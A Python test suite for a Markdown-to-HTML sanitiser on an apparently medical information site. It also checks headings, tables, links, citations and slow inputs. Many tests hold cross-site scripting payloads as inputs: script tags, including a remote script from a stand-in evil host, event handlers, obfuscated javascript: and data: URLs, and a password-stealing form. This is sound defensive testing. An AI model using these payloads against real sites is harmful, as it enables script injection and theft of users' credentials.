import re
import signal

import pytest

from cryoinfo.markdown import markdownify, render_markdown

SAFE_REL = 'rel="nofollow noopener noreferrer"'


def html_of(text: str, **kwargs) -> str:
    return render_markdown(text, **kwargs).html


# --- Things an attacker might type ---------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        'Before <script>alert("pwned")</script> after',
        'Before <SCRIPT>alert("pwned")</SCRIPT> after',
        'Before <script src="https://evil.example/pwned.js"></script> after',
        'Before <svg><script>alert("pwned")</script></svg> after',
    ],
)
def test_script_tags_are_removed_with_their_content(text):
    html = html_of(text)

    assert "<script" not in html.lower()
    assert "pwned" not in html
    assert "after" in html


@pytest.mark.parametrize(
    "text",
    [
        '<img src="https://example.org/a.png" onerror="alert(1)">',
        '<img src="https://example.org/a.png" ONLOAD="alert(1)">',
        '<svg onload="alert(1)"><circle r="4"/></svg>',
        '<body onload="alert(1)">Hello</body>',
        '<a href="/about" onclick="alert(1)">About</a>',
        '<a href="https://example.org" onmouseover="alert(1)">Example</a>',
        '<p onclick="alert(1)">Click me</p>',
    ],
)
def test_event_handler_attributes_are_removed(text):
    html = html_of(text)

    assert "alert" not in html
    assert re.search(r"\son\w+=", html, flags=re.IGNORECASE) is None


@pytest.mark.parametrize(
    "text",
    [
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "[click](jav&#x09;ascript:alert(1))",
        '<a href="jav&#x09;ascript:alert(1)">click</a>',
        '<a href="jav&#x0A;ascript:alert(1)">click</a>',
        '<a href="&#106;avascript:alert(1)">click</a>',
        '<a href="  javascript:alert(1)">click</a>',
        '<a href="java\nscript:alert(1)">click</a>',
        "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        '<a href="DATA:text/html,<script>alert(1)</script>">click</a>',
        "[click](vbscript:msgbox(1))",
        '<a href="VBScript:msgbox(1)">click</a>',
        "![pic](javascript:alert(1))",
        '<img src="javascript:alert(1)">',
        "![pic](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        '<img src="data:image/png;base64,iVBORw0KGgo=">',
    ],
)
def test_dangerous_url_schemes_are_removed_from_links_and_images(text):
    html = html_of(text)

    assert re.search(r"\b(href|src)=", html) is None
    assert "script" not in html.lower()
    assert "data:" not in html.lower()


@pytest.mark.parametrize(
    ("text", "tag"),
    [
        ('<iframe src="https://evil.example"></iframe>', "iframe"),
        ('<object data="https://evil.example/x.swf"></object>', "object"),
        ('<embed src="https://evil.example/x.swf">', "embed"),
        ("<style>body { display: none }</style>", "style"),
        ('<form action="https://evil.example/steal"><input name="password"></form>', "form"),
        ('<input type="text" name="password">', "input"),
        ('<svg width="10"><circle r="4"/></svg>', "svg"),
        ("<math><mi>x</mi></math>", "math"),
        ('<link rel="stylesheet" href="https://evil.example/x.css">', "link"),
        ('<meta http-equiv="refresh" content="0;url=https://evil.example">', "meta"),
        ('<base href="https://evil.example/">', "base"),
    ],
)
def test_dangerous_elements_are_removed(text, tag):
    html = html_of(f"Before\n\n{text}\n\nAfter")

    assert f"<{tag}" not in html
    assert "evil.example" not in html
    assert "display: none" not in html
    assert "<p>After</p>" in html


def test_style_rules_inside_a_style_element_do_not_leak_into_the_page_as_text():
    assert html_of("<style>p { color: red }</style>Text") == "\n<p>Text</p>"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('<p style="color: red">Red</p>', "<p>Red</p>"),
        ('<img src="https://example.org/a.png" style="position: fixed">', (
            '<p><img src="https://example.org/a.png"></p>'
        )),
        ('<a href="/about" style="font-size: 99em">About</a>', '<p><a href="/about">About</a></p>'),
    ],
)  # fmt: skip
def test_style_attributes_are_removed(text, expected):
    assert html_of(text) == expected


# --- Ordinary Markdown survives ------------------------------------------------------------------


def test_headings_become_h2_and_below_because_the_page_title_is_the_only_h1():
    html = html_of("# Before surgery\n\n## What to bring\n\n### Medicines\n\n#### Blood thinners")

    assert html == (
        '<h2 id="before-surgery">Before surgery</h2>\n'
        '<h2 id="what-to-bring">What to bring</h2>\n'
        '<h3 id="medicines">Medicines</h3>\n'
        '<h4 id="blood-thinners">Blood thinners</h4>'
    )


def test_tables_keep_their_header_and_body():
    html = html_of("| Drug | Dose |\n|------|------|\n| Paracetamol | 1 g |")

    assert html == (
        "<table>\n<thead>\n<tr>\n<th>Drug</th>\n<th>Dose</th>\n</tr>\n</thead>\n"
        "<tbody>\n<tr>\n<td>Paracetamol</td>\n<td>1 g</td>\n</tr>\n</tbody>\n</table>"
    )


def test_lists_survive():
    html = html_of("- Ice\n- Rest\n\n1. Call\n2. Wait")

    assert html == (
        "<ul>\n<li>Ice</li>\n<li>Rest</li>\n</ul>\n<ol>\n<li>Call</li>\n<li>Wait</li>\n</ol>"
    )


def test_blockquotes_and_emphasis_survive():
    html = html_of("> It was **much** less painful than *I* expected.")

    assert html == (
        "<blockquote>\n<p>It was <strong>much</strong> less painful than <em>I</em> expected.</p>"
        "\n</blockquote>"
    )


def test_html_inside_fenced_code_is_shown_as_text_not_run():
    html = html_of("```\n<b>bold</b> <script>alert(1)</script>\n```")

    assert html == (
        "<pre><code>&lt;b&gt;bold&lt;/b&gt; &lt;script&gt;alert(1)&lt;/script&gt;\n</code></pre>"
    )


def test_images_with_an_https_address_survive():
    html = html_of("![Ice pack on a knee](https://example.org/ice.png)")

    assert html == '<p><img alt="Ice pack on a knee" src="https://example.org/ice.png"></p>'


# --- Links and rel -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("[About](/about)", '<p><a href="/about">About</a></p>'),
        ("[Risks](#risks)", '<p><a href="#risks">Risks</a></p>'),
        ("[Kidney](kidney/)", '<p><a href="kidney/">Kidney</a></p>'),
    ],
)
def test_links_within_the_site_get_no_rel(text, expected):
    assert html_of(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            "[NHS](https://www.nhs.uk)",
            f'<p><a href="https://www.nhs.uk" {SAFE_REL}>NHS</a></p>',
        ),
        (
            "[Old site](http://example.org)",
            f'<p><a href="http://example.org" {SAFE_REL}>Old site</a></p>',
        ),
        (
            "[Write to us](mailto:team@example.org)",
            f'<p><a href="mailto:team@example.org" {SAFE_REL}>Write to us</a></p>',
        ),
        (
            '<a href="HTTPS://EXAMPLE.ORG">Shouting</a>',
            f'<p><a href="HTTPS://EXAMPLE.ORG" {SAFE_REL}>Shouting</a></p>',
        ),
        (
            '<a href="//evil.example/">Protocol-relative</a>',
            f'<p><a href="//evil.example/" {SAFE_REL}>Protocol-relative</a></p>',
        ),
    ],
)
def test_external_links_get_exactly_the_safe_rel(text, expected):
    assert html_of(text) == expected


def test_a_rel_typed_by_the_author_is_replaced_by_the_safe_one():
    html = html_of('<a rel="opener" href="https://x.example">x</a>')

    assert html == f'<p><a href="https://x.example" {SAFE_REL}>x</a></p>'


def test_a_rel_typed_by_the_author_on_an_internal_link_is_dropped():
    assert html_of('<a rel="opener" href="/about">About</a>') == '<p><a href="/about">About</a></p>'


def test_link_titles_survive_alongside_the_safe_rel():
    html = html_of('[NHS](https://www.nhs.uk "NHS website")')

    assert html == f'<p><a href="https://www.nhs.uk" title="NHS website" {SAFE_REL}>NHS</a></p>'


def test_an_external_link_gets_the_safe_rel_whatever_its_title_says():
    html = html_of('<a title="spam href=" href="https://spam.example">cheap pills</a>')

    assert SAFE_REL in html


# --- Table of contents ---------------------------------------------------------------------------


def test_toc_lists_h2_and_h3_headings_in_page_order():
    rendered = render_markdown(
        "# Overview\n\n## Risks\n\n### Infection\n\n#### Rare causes\n\n## Recovery"
    )

    assert rendered.toc == [
        {"id": "overview", "title": "Overview", "level": 2},
        {"id": "risks", "title": "Risks", "level": 2},
        {"id": "infection", "title": "Infection", "level": 3},
        {"id": "recovery", "title": "Recovery", "level": 2},
    ]


def test_toc_ids_are_the_ids_in_the_html():
    rendered = render_markdown("## Pain\n\n## Pain\n\n### Ünïcode heading\n\n## Q & A")

    html_ids = re.findall(r'<h[23] id="([^"]+)"', rendered.html)
    assert [entry["id"] for entry in rendered.toc] == html_ids
    assert len(set(html_ids)) == 4


def test_toc_titles_are_plain_text_for_the_template_to_escape():
    """The template escapes toc titles; an already-escaped title would show as `&amp;`."""
    rendered = render_markdown("## Risks & benefits")

    assert rendered.toc == [{"id": "risks-benefits", "title": "Risks & benefits", "level": 2}]
    assert '<h2 id="risks-benefits">Risks &amp; benefits</h2>' in rendered.html


# --- Citations -----------------------------------------------------------------------------------


def test_citations_in_range_link_to_their_reference():
    html = html_of("Cure rates are high [1] and stable [3].", references=3)

    assert html == (
        '<p>Cure rates are high <sup><a href="#ref-1">[1]</a></sup> '
        'and stable <sup><a href="#ref-3">[3]</a></sup>.</p>'
    )


@pytest.mark.parametrize("number", [0, 4, 999])
def test_citations_out_of_range_stay_as_text(number):
    html = html_of(f"Some claim [{number}].", references=3)

    assert html == f"<p>Some claim [{number}].</p>"


def test_without_references_numbers_in_brackets_stay_as_text():
    assert html_of("Stage [2] tumours.") == "<p>Stage [2] tumours.</p>"


def test_citations_do_not_swallow_ordinary_links():
    html = html_of("[NHS](https://www.nhs.uk), [1](/one) and [2].", references=3)

    assert html == (
        f'<p><a href="https://www.nhs.uk" {SAFE_REL}>NHS</a>, <a href="/one">1</a> '
        'and <sup><a href="#ref-2">[2]</a></sup>.</p>'
    )


def test_citations_inside_code_stay_as_code():
    assert html_of("Write `[1]` to cite.", references=3) == "<p>Write <code>[1]</code> to cite.</p>"


# --- Robustness ----------------------------------------------------------------------------------


def test_nul_and_other_control_characters_are_dropped():
    html = html_of("Ice\x00 pa\x01ck\x08s \x0b\x0chelp\x1b\x1f.")

    assert html == "<p>Ice packs help.</p>"


def test_control_characters_inside_a_link_do_not_crash_or_survive():
    html = html_of("[About\x00](/ab\x00out\x07)")

    assert html == '<p><a href="/about">About</a></p>'


def test_empty_and_missing_text_render_as_nothing():
    assert render_markdown("").html == ""
    assert render_markdown(None).toc == []


class _TooSlow(Exception):
    pass


def _render_within(seconds: float, text: str) -> str:
    """Render, or raise _TooSlow if it takes longer than `seconds` (a hang would block CI)."""

    def give_up(signum, frame):
        raise _TooSlow(f"rendering took more than {seconds} s")

    previous = signal.signal(signal.SIGALRM, give_up)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        return render_markdown(text, references=3).html
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)


def test_a_100_kb_article_renders_promptly():
    section = (
        "## Recovery\n\nMost people go home the same day [1]. See the "
        "[NHS page](https://www.nhs.uk) and *rest*.\n\n- Ice\n- Rest\n\n"
        "| Day | Pain |\n|-----|------|\n| 1 | Mild |\n\n"
    )
    text = section * (100_000 // len(section) + 1)
    assert len(text) >= 100_000

    html = _render_within(5, text)

    assert html.count('<sup><a href="#ref-1">[1]</a></sup>') == text.count("[1]")


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("<" * 100_000, id="angle brackets"),
        pytest.param("*a" * 50_000, id="emphasis markers"),
        pytest.param("> " * 50_000, id="nested quotes"),
        pytest.param("`" * 100_000, id="backticks"),
        pytest.param("[1]" * 33_000, id="citations"),
    ],
)
def test_100_kb_of_awkward_markup_renders_promptly(text):
    assert "<script" not in _render_within(5, text)


def test_100_kb_of_opening_brackets_renders_promptly():
    _render_within(5, "[" * 100_000)


# --- Editor preview ------------------------------------------------------------------------------


def test_editor_preview_drops_script():
    assert markdownify("<script>x</script>") == ""


def test_editor_preview_is_the_same_renderer_as_the_pages():
    text = '# Title\n\n<img src="x" onerror="alert(1)"> [link](javascript:alert(1)) [1]'

    assert markdownify(text) == render_markdown(text).html
    assert markdownify(text) == '<h2 id="title">Title</h2>\n<p><img src="x"> <a>link</a> [1]</p>'
